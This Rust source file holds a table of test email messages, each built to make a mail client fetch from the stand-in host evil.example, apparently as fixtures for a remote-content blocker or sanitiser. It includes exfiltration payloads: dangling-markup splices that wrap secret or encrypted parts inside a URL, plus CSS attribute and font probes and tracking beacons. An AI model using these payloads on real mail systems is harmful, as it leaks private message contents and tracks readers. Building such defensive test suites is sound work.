//! Mails that ask by how they are built.

/// What each does; the rest of its header and its body.
pub(crate) const WHOLE: &[(&str, &str)] = &[
    (
        "a page in a mail of the web archive",
        "Content-Type: multipart/related; type=text/html; start=\"https://evil.example/x\"; boundary=r\nContent-Location: https://evil.example/\n\n--r\nContent-Type: text/html\nContent-Location: https://evil.example/x\nContent-ID: <https://evil.example/x>\n\n<img src=y.png><link rel=stylesheet href=y.css>\n--r--\n",
    ),
    (
        "a page whose pictures lie at places elsewhere",
        "Content-Type: multipart/related; boundary=r\n\n--r\nContent-Type: text/html\n\n<img src=https://evil.example/x><img src=cid:missing><img src=mid:x@evil.example/y>\n--r\nContent-Type: image/png\nContent-Location: https://evil.example/x\n\nx\n--r--\n",
    ),
    (
        "a root elsewhere",
        "Content-Type: multipart/related; start=\"<https://evil.example/x>\"; start-info=text/html; boundary=r\n\n--r\nContent-Type: text/html\n\n<p>x\n--r--\n",
    ),
    (
        "parts stitched together around a text",
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<img src=\"https://evil.example/\n--m\nContent-Type: text/plain\n\nthe secret\n--m\nContent-Type: text/html\n\n\">\n--m--\n",
    ),
    (
        "parts stitched together around a mail",
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<style>p{background:url('https://evil.example/\n--m\nContent-Type: message/rfc822\n\nSubject: the secret\n\nx\n--m\nContent-Type: text/html\n\n')}</style><p>x\n--m--\n",
    ),
    (
        "parts stitched together around what is encrypted",
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<a ping='https://evil.example/\n--m\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nAAAA\n--m\nContent-Type: text/html\n\n'>x</a>\n--m--\n",
    ),
    (
        "alternatives with an AMP form of them",
        "Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: text/plain\n\nx\n--a\nContent-Type: text/x-amp-html\n\n<html amp4email><body><amp-img src=https://evil.example/x></amp-img><amp-carousel><amp-anim src=https://evil.example/x></amp-anim></amp-carousel><template type=amp-mustache>{{x}}</template></body></html>\n--a\nContent-Type: text/html\n\n<p>x\n--a--\n",
    ),
    (
        "nothing but an AMP form",
        "Content-Type: text/x-amp-html\n\n<html amp4email><body><amp-list src=https://evil.example/x></amp-list></body></html>\n",
    ),
    (
        "a calendar among alternatives",
        "Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: text/html\n\n<p>x\n--a\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\nDTSTART:20261124T080000Z\nATTACH:https://evil.example/x\nEND:VEVENT\nEND:VCALENDAR\n--a--\n",
    ),
    (
        "a page and nothing else",
        "Content-Type: text/html\n\n<body background=https://evil.example/x><img src=https://evil.example/x>\n",
    ),
    (
        "a page without a type",
        "\n<html><img src=https://evil.example/x></html>\n",
    ),
    (
        "a page that says it is text",
        "Content-Type: text/plain\n\n<html><img src=https://evil.example/x></html>\n",
    ),
    (
        "a page twice over",
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<base href=https://evil.example/>\n--m\nContent-Type: text/html\n\n<img src=x>\n--m--\n",
    ),
    (
        "a page with an address over several lines",
        "Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<img src=3D\"https://=\nevil.example/x\"><img src=3D\"https:=0A//evil.example/x\">\n",
    ),
    (
        "a page in an encoded mail in a mail",
        "Content-Type: multipart/digest; boundary=d\n\n--d\n\nSubject: x\nContent-Type: text/html\n\n<img src=https://evil.example/x>\n--d--\n",
    ),
    (
        "a signed page",
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=s\n\n--s\nContent-Type: text/html\n\n<img src=https://evil.example/x>\n--s\nContent-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n--s--\n",
    ),
    (
        "a mail signed with certificates to be fetched",
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=s\n\n--s\nContent-Type: text/plain\n\nx\n--s\nContent-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAhhZodHRwOi8vZXZpbC5leGFtcGxlL3g=\n--s--\n",
    ),
    (
        "an encrypted mail",
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n--e--\n",
    ),
    (
        "a returned mail",
        "Content-Type: multipart/report; report-type=delivery-status; boundary=r\n\n--r\n\nhttps://evil.example/x\n--r\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; evil.example\n\nFinal-Recipient: rfc822; x@evil.example\nAction: failed\nStatus: 5.1.1\n--r\nContent-Type: message/rfc822\n\nSubject: x\nContent-Type: text/html\n\n<img src=https://evil.example/x>\n--r--\n",
    ),
    (
        "a text with addresses",
        "Content-Type: text/plain; charset=utf-8\n\nhttps://evil.example/x http://evil.example ftp://evil.example/x x@evil.example\nwww.evil.example <https://evil.example/y> smb://evil.example/x\n",
    ),
    (
        "a flowed text with an address over two lines",
        "Content-Type: text/plain; format=flowed; delsp=yes\n\nhttps://evil. \nexample/x\n",
    ),
    (
        "a text with a key and a place of keys",
        "Content-Type: text/plain\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nx\n-----BEGIN PGP SIGNATURE-----\nComment: hkps://evil.example\n\nAAAA\n-----END PGP SIGNATURE-----\n",
    ),
    (
        "uuencoded within the text",
        "Content-Type: text/plain\n\nbegin 644 https://evil.example/x.html\n#0V%T\n`\nend\n",
    ),
    (
        "yEnc within the text",
        "Content-Type: text/plain\n\n=ybegin line=128 size=1 name=https://evil.example/x\nx\n=yend size=1\n",
    ),
    (
        "a mail whose boundary is an address",
        "Content-Type: multipart/mixed; boundary=\"https://evil.example/x\"\n\n--https://evil.example/x\nContent-Type: text/html\n\n<img src=https://evil.example/x>\n--https://evil.example/x--\n",
    ),
    (
        "a mail too complex to be taken apart",
        "Content-Type: multipart/mixed; boundary=\"\"\nContent-Type: text/html\n\n--\n<img src=https://evil.example/x>\n----\n",
    ),
    (
        "a mail cut within a page",
        "Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: text/html\n\n<img src=https://evil.example/x",
    ),
    (
        "structured data in a page",
        "Content-Type: text/html\n\n<script type=application/ld+json>{\"@context\":\"http://schema.org\",\"@type\":\"EmailMessage\",\"image\":\"https://evil.example/x\",\"potentialAction\":{\"@type\":\"ConfirmAction\",\"handler\":{\"@type\":\"HttpActionHandler\",\"url\":\"https://evil.example/x\"}}}</script><div itemscope itemtype=http://schema.org/Event><meta itemprop=image content=https://evil.example/x><link itemprop=url href=https://evil.example/x></div>\n",
    ),
    (
        "what a preview of a link would read",
        "Content-Type: text/html\n\n<head><meta property=og:image content=https://evil.example/x><meta name=twitter:image content=https://evil.example/x><meta name=msapplication-TileImage content=https://evil.example/x><link rel=oembed href=https://evil.example/x></head><a href=https://evil.example/x>https://evil.example/x</a>\n",
    ),
    (
        "policies that report",
        "Content-Type: text/html\n\n<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri https://evil.example/x\"><meta http-equiv=Report-To content='{\"endpoints\":[{\"url\":\"https://evil.example/x\"}]}'><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=Link content='<https://evil.example/x>;rel=stylesheet'><meta http-equiv=Set-Cookie content=a=b>\n",
    ),
    (
        "rules by which pages are fetched ahead",
        "Content-Type: text/html\n\n<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/x\"]}]}</script><script type=importmap>{\"imports\":{\"x\":\"https://evil.example/x\"}}</script><link rel=expect href=#x blocking=render><a href=https://evil.example/x attributionsrc=https://evil.example/y>x</a><img attributionsrc=https://evil.example/z src=data:,>\n",
    ),
    (
        "elements that few know",
        "Content-Type: text/html\n\n<portal src=https://evil.example/x></portal><fencedframe src=https://evil.example/x></fencedframe><webview src=https://evil.example/x></webview><model src=https://evil.example/x></model><spacer src=https://evil.example/x><keygen challenge=https://evil.example/x><noframes><img src=https://evil.example/x></noframes><noembed><img src=https://evil.example/x></noembed><xmp><img src=https://evil.example/x></xmp><plaintext><img src=https://evil.example/x>\n",
    ),
    (
        "markup of a word processor",
        "Content-Type: text/html\n\n<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"><!--[if gte mso 9]><v:background fill=t><v:fill type=tile src=\"https://evil.example/x\"/></v:background><![endif]--><xml><o:OfficeDocumentSettings><w:attachedTemplate href=https://evil.example/x /></o:OfficeDocumentSettings></xml><v:shape style='behavior:url(#default#VML)'><v:imagedata src=https://evil.example/x o:href=https://evil.example/y /></v:shape><link rel=File-List href=https://evil.example/filelist.xml><link rel=Edit-Time-Data href=https://evil.example/editdata.mso>\n",
    ),
    (
        "a look at who reads by size and colour",
        "Content-Type: text/html\n\n<style>@media (min-width:1px) and (prefers-color-scheme:dark){p{background:url(https://evil.example/dark)}}@media (-webkit-min-device-pixel-ratio:2){p{background:url(https://evil.example/2x)}}@supports (display:grid){p{background:url(https://evil.example/grid)}}a:visited{background:url(https://evil.example/visited)}input[value^=a]{background:url(https://evil.example/a)}@font-face{font-family:x;src:url(https://evil.example/A);unicode-range:U+41}p{font-family:x}p::first-line{background:url(https://evil.example/first)}::selection{background:url(https://evil.example/s)}::-webkit-scrollbar{background:url(https://evil.example/scroll)}</style><p>A<input value=abc>\n",
    ),
];
